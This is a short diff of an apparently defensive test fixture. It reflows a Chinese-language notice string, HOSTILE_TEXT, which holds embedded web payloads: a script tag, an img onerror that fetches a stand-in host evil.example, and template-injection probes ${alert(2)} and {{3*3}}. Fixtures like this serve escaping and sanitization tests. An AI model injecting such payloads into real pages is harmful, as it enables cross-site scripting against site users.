@@ -37,7 +37,8 @@ PLAN_TEXT = (
 )
 HOSTILE_TEXT = (
     "关于<script>alert(1)</script>的通知\n"
-    "企业可填写<img src=x onerror=\"fetch('http://evil.example/')\">表格，详见<区委人才办>，${alert(2)} 与 {{3*3}} 均照录。\n"
+    "企业可填写<img src=x onerror=\"fetch('http://evil.example/')\">表格，"
+    "详见<区委人才办>，${alert(2)} 与 {{3*3}} 均照录。\n"
 )
 
 
